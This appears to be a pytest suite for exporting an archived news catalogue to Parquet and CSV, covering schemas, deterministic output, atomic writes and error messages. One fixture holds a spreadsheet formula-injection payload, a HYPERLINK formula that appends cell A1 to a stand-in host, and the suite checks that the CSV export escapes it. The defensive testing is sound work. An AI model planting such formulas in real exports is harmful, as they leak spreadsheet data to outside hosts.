"""The catalogue as files: what Parquet and CSV hold, when they are there, and that they are alike for alike catalogues."""

from __future__ import annotations

import csv
import json
import os
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from pyarrow import parquet

from archive.catalogue.catalogue import open_catalogue
from archive.catalogue.exporting import export as exporting
from archive.catalogue.exporting.export import FORMATS, Order, export
from archive.catalogue.exporting.sheets import sheets
from archive.cli import main
from archive.errors import DiskTrouble
from tests.archive.catalogue.shelf import Shelf, page, says, walk

FORMULA = '=HYPERLINK("https://x.example/?"&A1)'
TEXT = "Dòng một, “có phẩy”\nDòng hai"


@pytest.fixture
def filled(shelf: Shelf) -> Shelf:
    shelf.warc(
        page("/a", says(title="Đồng Tháp họp bàn", published="2024-03-27", text=TEXT)),
        page("/b", says(title=FORMULA, byline="-1", problems=[{"field": "published", "what": "no date"}])),
        walk("/tin-tuc", [("/a", "owed"), ("/x", "never")]),
    )
    shelf.warc(page("/a", says(title="Đồng Tháp họp", published="2024-03-27", text=TEXT), minutes=5))
    shelf.ingest()
    return shelf


def written(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_every_row_of_every_table_is_read_back_from_parquet(filled: Shelf, tmp_path: Path) -> None:
    export(filled.folder, Order(tmp_path / "out"))
    with open_catalogue(filled.folder) as catalogue:
        for sheet in sheets(catalogue):
            back = parquet.read_table(tmp_path / "out" / f"{sheet.name}.parquet")
            assert [tuple(row.values()) for row in back.to_pylist()] == list(catalogue.rows(sheet.sql)), sheet.name


def test_every_table_has_a_file_and_texts_stand_with_their_articles(filled: Shelf, tmp_path: Path) -> None:
    export(filled.folder, Order(tmp_path / "out"))
    tables = {str(name) for (name,) in filled.rows("select name from pragma_table_list where type = 'table'")}

    assert {path.stem for path in (tmp_path / "out").glob("*.parquet")} == {
        name for name in tables if not name.startswith("sqlite_")
    } - {"article_texts"}
    article = next(
        row for row in parquet.read_table(tmp_path / "out" / "articles.parquet").to_pylist() if row["title"] != FORMULA
    )
    assert (article["text"], article["province"], article["province_now"]) == (TEXT, "Hà Nam", "Ninh Bình")
    assert article["portal"] == "Cổng thông tin mẫu"


def test_columns_have_the_types_and_the_meanings_of_the_schema(filled: Shelf, tmp_path: Path) -> None:
    export(filled.folder, Order(tmp_path / "out", tables=("articles",)))
    schema = parquet.read_schema(tmp_path / "out" / "articles.parquet")

    assert [str(schema.field(name).type) for name in ("id", "title", "captures")] == ["int64", "string", "int64"]
    assert not schema.field("site").nullable
    assert schema.field("byline").metadata[b"description"] == b"Who signed it, as printed."
    assert all(field.metadata[b"description"] for field in schema)
    assert schema.metadata[b"description"].startswith(b"Articles as they stand")


def test_a_cell_that_a_spreadsheet_would_run_is_text(filled: Shelf, tmp_path: Path) -> None:
    export(filled.folder, Order(tmp_path / "out", "csv", ("articles",)))
    rows = read_csv(tmp_path / "out" / "articles.csv")

    assert {(row["title"], row["byline"]) for row in rows} == {(f"'{FORMULA}", "'-1"), ("Đồng Tháp họp", "")}
    assert TEXT in {row["text"] for row in rows}


@pytest.mark.parametrize("form", FORMATS)
def test_the_same_captures_in_another_order_give_the_same_files(filled: Shelf, tmp_path: Path, form: str) -> None:
    tables = ("articles", "captures", "problems", "urls")
    export(filled.folder, Order(tmp_path / "one", form, tables))
    filled.rebuild()
    export(filled.folder, Order(tmp_path / "two", form, tables))

    assert written(tmp_path / "one") == written(tmp_path / "two")


def test_what_comes_while_files_are_written_is_in_none_of_them(filled: Shelf, tmp_path: Path) -> None:
    def meanwhile(table: str) -> None:
        if table == "captures":
            filled.warc(page("/c", says(title="Tin mới"), minutes=9))
            filled.ingest()

    export(filled.folder, Order(tmp_path / "out", "csv"), meanwhile)

    assert filled.rows("select 1 from articles where title = 'Tin mới'")
    assert len(read_csv(tmp_path / "out" / "captures.csv")) == 3
    assert len(read_csv(tmp_path / "out" / "articles.csv")) == 2


def test_an_export_that_fails_leaves_the_one_before(
    filled: Shelf, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    export(filled.folder, Order(tmp_path / "out"))
    before = written(tmp_path / "out")
    filled.warc(page("/c", says(title="Tin mới"), minutes=9))
    filled.ingest()

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)

    with pytest.raises(DiskTrouble, match="make room"):
        export(filled.folder, Order(tmp_path / "out"))
    assert written(tmp_path / "out") == before


@pytest.mark.parametrize(("limit", "most"), [("_ROWS", 1), ("_LETTERS", 100)])
def test_pieces_lose_no_row(
    filled: Shelf, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, most: int
) -> None:
    monkeypatch.setattr(exporting, limit, most)
    export(filled.folder, Order(tmp_path / "out", tables=("captures",)))
    file = parquet.ParquetFile(tmp_path / "out" / "captures.parquet")

    assert (file.num_row_groups, file.metadata.num_rows) == (3, 3)


def test_the_files_are_listed_with_their_digests(filled: Shelf, tmp_path: Path) -> None:
    done = CliRunner().invoke(main, ["export", str(tmp_path / "out"), "--archive", str(filled.root), "--json"])
    told = json.loads(done.stdout)

    assert json.loads((tmp_path / "out" / "export.json").read_text(encoding="utf-8")) == told | {"folder": "."}
    assert {one["file"] for one in told["tables"]} == {path.name for path in (tmp_path / "out").glob("*.parquet")}
    assert told["made_with"]["schema"]


def test_without_pyarrow_it_is_said_what_to_install(
    filled: Shelf, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.delitem(sys.modules, "archive.catalogue.exporting.parquet", raising=False)

    with pytest.raises(exporting.NoParquetError, match=r"luutru\[export\].*--format csv"):
        export(filled.folder, Order(tmp_path / "out"))
    assert not (tmp_path / "out").exists()


def test_a_table_that_is_not_there_is_named_with_those_that_are(filled: Shelf, tmp_path: Path) -> None:
    with pytest.raises(exporting.NoTableError, match=r"nix: .*articles, images"):
        export(filled.folder, Order(tmp_path / "out", tables=("articles", "nix")))
